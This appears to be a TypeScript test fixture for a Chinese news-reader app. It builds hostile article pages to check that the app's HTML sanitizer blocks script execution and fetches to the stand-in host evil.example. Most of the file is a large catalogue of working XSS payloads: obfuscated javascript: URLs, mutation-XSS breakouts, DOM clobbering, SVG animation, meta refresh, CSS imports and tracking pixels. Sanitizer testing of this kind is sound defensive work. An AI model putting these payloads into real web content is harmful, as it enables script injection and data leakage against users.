/**
 * Hostile-article corpus: the shared XSS vectors placed in several article
 * contexts, plus families of our own (base, meta refresh, CSS url()/@import,
 * DOM clobbering, mutation XSS, srcdoc, obfuscated script URLs, SVG animation,
 * ping/prefetch, srcset and media, tracking pixels).
 *
 * Detection contract, shared by the Node and browser passes:
 *   - anything that runs calls `(top.__pwned=1,alert)(…)`: the global is set and a dialog opens;
 *   - every reference that must never be fetched points at `evil.example`;
 *   - every page carries a marker sentence that must survive into the reader.
 *
 * Policy on `evil.example` after sanitizing: a plain `<a href>` to it may stay
 * (a link the reader clicks, opened with noopener/noreferrer); nothing that
 * loads by itself may point there (img src/srcset, link href, CSS url(),
 * poster, background, media src, object data, ping).
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

export const EVIL_HOST = 'evil.example';
export const EVIL = `https://${EVIL_HOST}`;
/** The call every executing payload makes: sets a global we read back, then opens a dialog. */
export const PWN = '(top.__pwned=1,alert)';

export type Context = 'body' | 'inline' | 'attr' | 'title' | 'caption' | 'lead' | 'page';

export interface SecurityCase {
  /** Unique, stable: `<source id>@<context>`. */
  id: string;
  family: string;
  context: Context;
  title: string;
  /** Markup placed in the context (already rewritten for detection). */
  payload: string;
}

interface Vector {
  source: string;
  id: string;
  title: string;
  payload: string;
}

const SHARED = process.env.QINGDU_SHARED ?? join(import.meta.dirname, '..', '..', '..', 'shared');
export const VECTORS_FILE = join(SHARED, 'fixtures', 'xss', 'vectors.json');

/** Hosts the vectors use as "the attacker": rewritten to evil.example so a request there is seen. */
const ATTACKER_HOSTS = /(?:https?:)?\/\/(?:html5sec\.org|evil\.com|attacker\.org|code\.jquery\.com|google\.com|foo\.bar|foo\.f|ha\.ckers\.org|xss\.rocks)\b/gi;

/** Rewrites a vector so that running it is detectable (global + dialog) and its attacker hosts are ours. */
export function rewritePayload(payload: string): string {
  return payload
    .replace(/\b(alert|confirm|prompt)\s*\(/g, `(top.__pwned=1,$1)(`)
    .replace(ATTACKER_HOSTS, EVIL);
}

export function loadVectors(file = VECTORS_FILE): Vector[] {
  return JSON.parse(readFileSync(file, 'utf8')) as Vector[];
}

export const escapeAttr = (s: string): string => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** The contexts each vector is placed in: body and inline always, plus one of the others in rotation. */
const ROTATING: Context[] = ['attr', 'caption', 'title', 'lead'];

export function vectorCases(vectors = loadVectors()): SecurityCase[] {
  const out: SecurityCase[] = [];
  vectors.forEach((v, i) => {
    const payload = rewritePayload(v.payload);
    const family = v.source.includes('DOMPurify') ? 'dompurify' : 'h5sc';
    for (const context of ['body', 'inline', ROTATING[i % ROTATING.length]!] as Context[]) {
      out.push({ id: `${v.id}@${context}`, family, context, title: v.title, payload });
    }
  });
  return out;
}

const P = PWN;
const E = EVIL;

/** Families of our own: each entry is [title, payload]; placed in the article body. */
export const OWN_FAMILIES: Record<string, [string, string][]> = {
  base: [
    ['base href to attacker', `<base href="${E}/">`],
    ['base href protocol-relative', `<base href="//${EVIL_HOST}/b/"><a href="relative-link">相对链接</a>`],
    ['base javascript', `<base href="javascript:${P}(1)//">`],
    ['base target', `<base target="_top" href="${E}/t/">`],
  ],
  meta: [
    ['meta refresh to attacker', `<meta http-equiv="refresh" content="0;url=${E}/refresh">`],
    ['meta refresh javascript', `<meta http-equiv="refresh" content="0;url=javascript:${P}(1)">`],
    ['meta refresh data', `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+">`],
    ['meta set-cookie', `<meta http-equiv="Set-Cookie" content="qd=1">`],
    ['meta csp', `<meta http-equiv="Content-Security-Policy" content="default-src *">`],
    ['meta charset utf-7', `<meta charset="UTF-7">+ADw-script+AD4-${P}(1)+ADw-/script+AD4-`],
  ],
  css: [
    ['style attr background url', `<p style="background:url(${E}/bg.png)">样式背景段落 background paragraph.</p>`],
    ['style attr quoted url', `<div style="background-image:url('${E}/bg2.png')">引号背景</div>`],
    ['style attr escaped url', `<p style="background:u\\72l(${E}/esc.png)">转义</p>`],
    ['style attr entity url', `<p style="background:&#117;rl(${E}/ent.png)">实体</p>`],
    ['style attr list-style', `<ul><li style="list-style:url(${E}/li.png)">列表项</li></ul>`],
    ['style attr cursor', `<span style="cursor:url(${E}/c.cur),auto">光标</span>`],
    ['style attr custom property', `<span style="--x:url(${E}/var.png);background:var(--x)">变量</span>`],
    ['style attr behavior', `<span style="behavior:url(${E}/x.htc)">behavior</span>`],
    ['style attr expression', `<p style="width:expression(${P}(1))">expression</p>`],
    ['style element import', `<style>@import '${E}/import.css'; p{background:url(${E}/s.png)}</style>`],
    ['style element import url()', `<style>@import url(${E}/import2.css);</style>`],
    ['style element font-face', `<style>@font-face{font-family:q;src:url(${E}/f.woff)} body{font-family:q}</style>`],
    ['svg style import', `<svg><style>@import '${E}/svg.css';</style></svg>`],
    ['link stylesheet', `<link rel="stylesheet" href="${E}/l.css">`],
    ['table background attribute', `<table background="${E}/tbg.png"><tr><td background="${E}/tdbg.png">表格</td></tr></table>`],
    ['body background attribute', `<body background="${E}/bodybg.png">`],
  ],
  clobber: [
    ['img name getElementById', `<img name="getElementById" src="/img/c1.png" width="320" height="180">`],
    ['form id location', `<form id="location"><input name="href" value="${E}/"></form>`],
    ['a id __pwned', `<a id="__pwned" href="${E}/clobber">clobber</a>`],
    ['img name __pwned', `<img name="__pwned" src="/img/c2.png" width="320" height="180">`],
    ['form name __pwned', `<form name="__pwned"></form>`],
    ['object id __pwned', `<object id="__pwned"></object>`],
    ['embed name __pwned', `<embed name="__pwned">`],
    ['iframe name __pwned', `<iframe name="__pwned"></iframe>`],
    ['a id content-ready flag', `<a id="__qingduContentReady">flag</a>`],
    ['form attributes clobber', `<form id="f"><input name="attributes"><input name="nodeName"></form>`],
    ['img name cookie', `<img name="cookie" src="/img/c3.png" width="320" height="180">`],
    ['reader chrome ids', `<div id="article-host">假容器</div><p id="status">假状态</p><div id="progress-fill"></div>`],
    ['reader chrome classes', `<p class="rd-title rd-lead qd-pair">冒充标题 fake title</p>`],
    ['a name defaultView', `<a name="defaultView"></a><a name="implementation"></a>`],
  ],
  mxss: [
    ['noscript title breakout', `<noscript><p title="</noscript><img src=x onerror=${P}(1)>"></noscript>`],
    ['template img', `<template><img src=x onerror=${P}(1)></template>`],
    ['svg style breakout', `<svg></p><style><a id="</style><img src=1 onerror=${P}(1)>">`],
    ['math mglyph style', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${P}(1)&gt;">`],
    ['form math mglyph', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}(1)>`],
    ['math textarea path', `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${P}(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>`],
    ['svg foreignObject style', `<svg><foreignObject><p><style><img src=x onerror=${P}(1)></style></p></foreignObject></svg>`],
    ['xmp title breakout', `<xmp><p title="</xmp><img src=x onerror=${P}(1)>"></xmp>`],
    ['noembed breakout', `<noembed><img title="</noembed><img src onerror=${P}(1)>"></noembed>`],
    ['iframe text breakout', `<iframe><img src=x onerror=${P}(1)></iframe>`],
    ['title in body', `<title><img src=x onerror=${P}(1)></title>`],
    ['textarea breakout', `<textarea><img title="</textarea><img src=x onerror=${P}(1)>"></textarea>`],
    ['select template', `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${P}(1)>">`],
    ['svg desc comment', `<svg><desc><![CDATA[</desc><img src=x onerror=${P}(1)>]]></desc></svg>`],
    ['comment breakout', `<!--><img src=x onerror=${P}(1)>-->`],
    ['processing instruction', `<?xml-stylesheet href="${E}/pi.css"?><p>PI</p>`],
    ['svg annotation-xml', `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${P}(1)></style></annotation-xml></math>`],
    ['nested noscript', `<noscript><noscript><img src=x onerror=${P}(1)></noscript></noscript>`],
  ],
  srcdoc: [
    ['iframe srcdoc script', `<iframe srcdoc="&lt;script&gt;${P}(1)&lt;/script&gt;"></iframe>`],
    ['iframe srcdoc img', `<iframe srcdoc="<img src=x onerror=${P}(1)>"></iframe>`],
    ['iframe srcdoc attacker image', `<iframe srcdoc="<img src=${E}/srcdoc.png>"></iframe>`],
    ['frame srcdoc', `<frameset><frame srcdoc="<script>${P}(1)</script>"></frameset>`],
    ['iframe src javascript', `<iframe src="javascript:${P}(1)"></iframe>`],
    ['iframe src data', `<iframe src="data:text/html,<script>${P}(1)</script>"></iframe>`],
    ['iframe src attacker', `<iframe src="${E}/frame.html"></iframe>`],
  ],
  urls: [
    ['a javascript', `<a href="javascript:${P}(1)">点这里 js</a>`],
    ['a tab in scheme', `<a href="java&#x09;script:${P}(1)">tab</a>`],
    ['a newline in scheme', `<a href="jav&#x0A;ascript:${P}(1)">newline</a>`],
    ['a leading space and control', `<a href=" &#x01;javascript:${P}(1)">control</a>`],
    ['a entity-encoded', `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${P}(1)">entities</a>`],
    ['a decimal padded entities', `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${P}(1)">padded</a>`],
    ['a named entities', `<a href="javascript&colon;${P}&lpar;1&rpar;">colon</a>`],
    ['a Tab named entity', `<a href="jav&Tab;ascript:${P}(1)">Tab</a>`],
    ['a mixed case', `<a href="JaVaScRiPt:${P}(1)">case</a>`],
    ['a vbscript', `<a href="vbscript:msgbox(1)">vb</a>`],
    ['a vbscript upper', `<a href="VBSCRIPT:Execute(1)">VB</a>`],
    ['a data html base64', `<a href="data:text/html;base64,PHNjcmlwdD50b3AuX19wd25lZD0xPC9zY3JpcHQ+">data</a>`],
    ['a data html plain', `<a href="data:text/html,<script>${P}(1)</script>">data2</a>`],
    ['a data html spaced', `<a href=" data:text/html,<script>${P}(1)</script>">data3</a>`],
    ['a data svg', `<a href="data:image/svg+xml,<svg onload=${P}(1)>">svgdata</a>`],
    ['area javascript', `<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:${P}(1)"></map>`],
    ['img src javascript', `<img src="javascript:${P}(1)" width="320" height="180">`],
    ['img src data html', `<img src="data:text/html,<script>${P}(1)</script>">`],
    ['form action javascript', `<form action="javascript:${P}(1)"><button>提交</button></form>`],
    ['button formaction', `<form id="x2"></form><button form="x2" formaction="javascript:${P}(1)">X</button>`],
    ['object data javascript', `<object data="javascript:${P}(1)"></object>`],
    ['embed src javascript', `<embed src="javascript:${P}(1)">`],
    ['a xlink href', `<a xlink:href="javascript:${P}(1)">xlink</a>`],
    ['blockquote cite', `<blockquote cite="javascript:${P}(1)">引文 quote</blockquote>`],
    ['plain link to attacker (allowed)', `<a href="${E}/read-more">延伸阅读 read more</a>`],
    ['link with fragment', `<a href="#section-2">跳到第二节</a>`],
  ],
  svg: [
    ['svg animate href', `<svg><a><animate attributeName="href" values="javascript:${P}(1)"/><text x="20" y="20">click</text></a></svg>`],
    ['svg set href', `<svg><a><set attributeName="href" to="javascript:${P}(1)"/><text x="20" y="20">set</text></a></svg>`],
    ['svg animate xlink', `<svg><a xlink:href="#"><animate attributeName="xlink:href" begin="0" from="javascript:${P}(1)" to="&"/><text y="20">x</text></a></svg>`],
    ['svg image attacker', `<svg><image href="${E}/svgimg.png" width="10" height="10"/></svg>`],
    ['svg use attacker', `<svg><use href="${E}/use.svg#x"/></svg>`],
    ['svg script href', `<svg><script href="${E}/s.js"></script></svg>`],
    ['svg onload', `<svg onload="${P}(1)"></svg>`],
    ['svg feImage', `<svg><filter><feImage href="${E}/fe.png"/></filter></svg>`],
    ['svg animate onbegin', `<svg><animate onbegin="${P}(1)" attributeName="x" dur="1s"/></svg>`],
  ],
  network: [
    ['a ping', `<a href="/story/001000001" ping="${E}/ping">带 ping 的链接</a>`],
    ['link prefetch', `<link rel="prefetch" href="${E}/prefetch">`],
    ['link preload image', `<link rel="preload" as="image" href="${E}/preload.png">`],
    ['link dns-prefetch', `<link rel="dns-prefetch" href="//${EVIL_HOST}">`],
    ['link preconnect', `<link rel="preconnect" href="${E}">`],
    ['link icon', `<link rel="icon" href="${E}/favicon.ico">`],
    ['img srcset attacker', `<img src="/img/ok1.png" srcset="${E}/srcset.png 2x" width="320" height="180">`],
    ['img srcset w descriptors', `<img src="/img/ok2.png" sizes="100vw" srcset="${E}/a.png 100w, ${E}/b.png 800w" width="320" height="180">`],
    ['picture source srcset', `<picture><source srcset="${E}/pic.webp" type="image/webp"><img src="/img/ok3.png" width="320" height="180"></picture>`],
    ['video poster', `<video poster="${E}/poster.png" src="/media/v.mp4"></video>`],
    ['video source', `<video><source src="${E}/v.mp4" type="video/mp4"></video>`],
    ['audio autoplay', `<audio src="${E}/a.mp3" autoplay></audio>`],
    ['video track default', `<video src="/media/v2.mp4"><track default kind="captions" src="${E}/t.vtt"></video>`],
    ['input image', `<input type="image" src="${E}/input.png">`],
    ['object data attacker', `<object data="${E}/o.swf"></object>`],
    ['embed attacker', `<embed src="${E}/e.swf">`],
    ['img lowsrc dynsrc', `<img lowsrc="${E}/low.png" dynsrc="${E}/dyn.avi" src="/img/ok4.png" width="320" height="180">`],
    ['script src attacker', `<script src="${E}/x.js"></script>`],
    ['img longdesc', `<img src="/img/ok5.png" longdesc="${E}/desc" width="320" height="180">`],
  ],
  pixels: [
    ['tracking pixel 1x1', `<img src="${E}/px.gif" width="1" height="1">`],
    ['tracking pixel 0x0', `<img src="${E}/px0.gif" width="0" height="0" alt="">`],
    ['tracking pixel query', `<img width="1" height="1" alt="" src="${E}/px.gif?uid=123&amp;ref=story">`],
    ['tracking pixel hidden 1x1', `<img src="${E}/px-hidden.gif" width="1" height="1" style="display:none">`],
    ['tracking pixel in noscript', `<noscript><img src="${E}/px-noscript.gif" width="1" height="1"></noscript>`],
  ],
  events: [
    ['details ontoggle', `<details open ontoggle="${P}(1)"><summary>摘要</summary>内容</details>`],
    ['img onerror', `<img src="/img/missing.gif" onerror="${P}(1)">`],
    ['body onload', `<body onload="${P}(1)">`],
    ['marquee onstart', `<marquee onstart="${P}(1)">跑马灯</marquee>`],
    ['video onloadstart', `<video src="/media/v3.mp4" onloadstart="${P}(1)"></video>`],
    ['p onmouseover uppercase', `<p ONMOUSEOVER="${P}(1)">大写事件属性</p>`],
    ['a onfocus autofocus', `<a href="#x" autofocus onfocus="${P}(1)">focus</a>`],
    ['input autofocus', `<input autofocus onfocus="${P}(1)">`],
    ['img onload data', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${P}(1)">`],
    ['animation event', `<p style="animation-name:x" onanimationstart="${P}(1)">动画</p>`],
  ],
};

export function ownCases(): SecurityCase[] {
  const out: SecurityCase[] = [];
  for (const [family, entries] of Object.entries(OWN_FAMILIES)) {
    entries.forEach(([title, payload], i) => out.push({ id: `own-${family}-${i + 1}@body`, family, context: 'body', title, payload }));
  }
  return out;
}

/** Whole-page cases: the hostile part sits in the page's head. */
export function pageCases(): SecurityCase[] {
  const heads: [string, string][] = [
    ['head base href to attacker', `<base href="${E}/">`],
    ['head meta refresh', `<meta http-equiv="refresh" content="0;url=${E}/head-refresh">`],
    ['head stylesheet', `<link rel="stylesheet" href="${E}/head.css"><style>@import '${E}/head-import.css';</style>`],
    ['head og:image javascript', `<meta property="og:image" content="javascript:${P}(1)">`],
    ['head og:image data', `<meta property="og:image" content="data:text/html,<script>${P}(1)</script>">`],
    ['head description markup', `<meta name="description" content="&lt;img src=x onerror=${P}(1)&gt;">`],
    ['head json-ld markup', `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<img src=x onerror=${P}(1)>","author":{"name":"<svg onload=${P}(1)>"},"image":"javascript:${P}(1)"}</script>`],
    ['head title markup', `<title>&lt;script&gt;${P}(1)&lt;/script&gt;</title>`],
  ];
  return heads.map(([title, payload], i) => ({ id: `own-head-${i + 1}@page`, family: 'head', context: 'page', title, payload }));
}

export function allCases(): SecurityCase[] {
  return [...vectorCases(), ...ownCases(), ...pageCases()];
}

// ---------------------------------------------------------------------------
// Pages

export const FT_BASE = 'https://cn.ft.com/story/';
export const OTHER_BASE = 'https://blog.example.org/2025/06/';

/** The sentence every page carries; it must reach the reader intact. */
export const markerOf = (n: number): string => `清读安全标记第${n}号：这句话必须完整出现在阅读器里。Qingdu marker ${n} must survive.`;

const FILLER_ZH = [
  '美联储周三宣布维持基准利率不变，市场对此反应平淡，投资者将目光转向下个月公布的通胀数据。',
  '分析人士指出，全球供应链正在重新布局，东南亚国家成为制造业转移的主要受益者，但基础设施仍是短板。',
  '在人工智能投资热潮中，数据中心的电力需求迅速上升，多家公用事业公司上调了未来十年的资本开支计划。',
];
const FILLER_EN = [
  'The central bank left rates on hold on Wednesday, and markets barely moved as investors looked ahead to next month’s inflation figures.',
  'Analysts say supply chains are being redrawn, with south-east Asia the main winner, though its roads and ports still lag behind demand.',
];

export interface BuiltPage {
  url: string;
  html: string;
  marker: string;
  title: string;
  cases: SecurityCase[];
}

/** Wraps a case for its context; body-like contexts go in the body, the others in header slots. */
function placeBody(c: SecurityCase): string {
  switch (c.context) {
    case 'inline':
      return `<p>这一段的中间插入了内容 ${c.payload} 之后继续是正常文字。</p>`;
    case 'attr':
      return `<p title="${escapeAttr(c.payload)}" data-note="${escapeAttr(c.payload)}"><a href="/story/001000002" title="${escapeAttr(c.payload)}">属性值里的内容</a></p>`;
    case 'caption':
      return `<figure><img src="/img/cap-${c.id.replace(/[^a-z0-9-]/gi, '')}.png" alt="${escapeAttr(c.payload)}" width="320" height="180"><figcaption>${c.payload}</figcaption></figure>`;
    default:
      return `<div class="case">${c.payload}</div>`;
  }
}

/**
 * One article page holding `cases`. FT pages use FT's story markup (the site
 * rule takes the body); other pages are a plain blog post (Readability).
 * Text (with the marker) comes before the cases, so a payload that swallows
 * the rest of the page (an unclosed `<textarea>`) cannot take the marker with it.
 */
export function buildPage(n: number, cases: SecurityCase[], ft: boolean): BuiltPage {
  const url = ft ? `${FT_BASE}00109${String(n).padStart(4, '0')}` : `${OTHER_BASE}post-${n}.html`;
  const marker = markerOf(n);
  const titleCase = cases.find((c) => c.context === 'title');
  const leadCase = cases.find((c) => c.context === 'lead');
  const headCase = cases.find((c) => c.context === 'page');
  const plainTitle = `安全测试文章 ${n}：央行按兵不动`;
  const h1 = titleCase ? `${plainTitle} ${titleCase.payload}` : plainTitle;
  const lead = leadCase ? `导语 ${leadCase.payload}` : '导语：市场在等待更多数据。';
  const text = [
    `<p>${marker}</p>`,
    ...FILLER_ZH.map((t) => `<p>${t}</p>`),
    ...FILLER_EN.map((t) => `<p>${t}</p>`),
  ].join('\n');
  const body = cases.filter((c) => !['title', 'lead', 'page'].includes(c.context)).map(placeBody).join('\n');
  const tail = `<p>${FILLER_ZH[0]}（完）</p>`;
  const head = `<meta charset="utf-8"><title>${escapeAttr(plainTitle)} - ${ft ? 'FT中文网' : 'Example Blog'}</title>
<meta name="description" content="${escapeAttr(leadCase ? leadCase.payload : '市场在等待更多数据。')}">
${headCase ? headCase.payload : ''}`;
  const html = ft
    ? `<!doctype html><html lang="zh-CN"><head>${head}</head><body><div class="story-container">
<h1 class="story-headline">${h1}</h1>
<div class="story-lead">${lead}</div>
<div class="story-byline"><span class="story-time" data-time="1750000000">更新于2025年6月15日</span><span class="story-author">英国《金融时报》 测试记者</span></div>
<div class="story-body"><div id="story-body-container">
${text}
${body}
${tail}
</div></div></div></body></html>`
    : `<!doctype html><html lang="zh-CN"><head>${head}</head><body><header><nav><a href="/">首页</a> <a href="/about">关于</a></nav></header>
<main><article><h1>${h1}</h1><p class="lead">${lead}</p>
${text}
${body}
${tail}
</article></main><footer>© Example Blog</footer></body></html>`;
  return { url, html, marker, title: plainTitle, cases };
}

/** Splits cases into pages of at most `perPage`, with at most one title, lead and head case per page. */
export function paginate(cases: SecurityCase[], perPage: number): SecurityCase[][] {
  const pages: SecurityCase[][] = [];
  const single = new Set<Context>(['title', 'lead', 'page']);
  for (const c of cases) {
    let page = pages.find((p) => p.length < perPage && !(single.has(c.context) && p.some((o) => o.context === c.context)));
    if (!page) pages.push((page = []));
    page.push(c);
  }
  return pages;
}

/**
 * Groups cases into pages. A payload that leaves its container open (an
 * unclosed `<textarea>`, a stray `</div>`) would swallow or move the cases after
 * it, so such payloads get a page of their own; the rest share pages.
 * `contained(payload)` is supplied by the caller (it needs an HTML parser).
 */
export function groupCases(cases: SecurityCase[], perPage: number, contained: (payload: string) => boolean): SecurityCase[][] {
  const solo: SecurityCase[][] = [];
  const shared: SecurityCase[] = [];
  for (const c of cases) {
    if (c.context === 'attr' || contained(c.payload)) shared.push(c);
    else solo.push([c]);
  }
  return [...paginate(shared, perPage), ...solo];
}

/**
 * Containment test over a DOMParser: the payload's markup closes inside its own box. Self-contained (a browser
 * test passes its source to the page). In a browser a payload's `<img name="getElementById">` or `name="body"`
 * shadows the document's own members, so they are read from its prototypes.
 */
export function containedWith(parser: { parseFromString(s: string, type: 'text/html'): Document }): (payload: string) => boolean {
  return (payload) => {
    const d = parser.parseFromString(`<!doctype html><body><div id="qd-box">${payload}</div><p id="qd-after">x</p>`, 'text/html');
    let getElementById: Document['getElementById'] | undefined;
    for (let proto = Object.getPrototypeOf(d) as object | null; proto && !getElementById; proto = Object.getPrototypeOf(proto) as object | null) {
      getElementById = Object.getOwnPropertyDescriptor(proto, 'getElementById')?.value as Document['getElementById'] | undefined;
    }
    const after = getElementById?.call(d, 'qd-after');
    return !!after && after.parentElement?.localName === 'body' && after.previousElementSibling?.id === 'qd-box';
  };
}
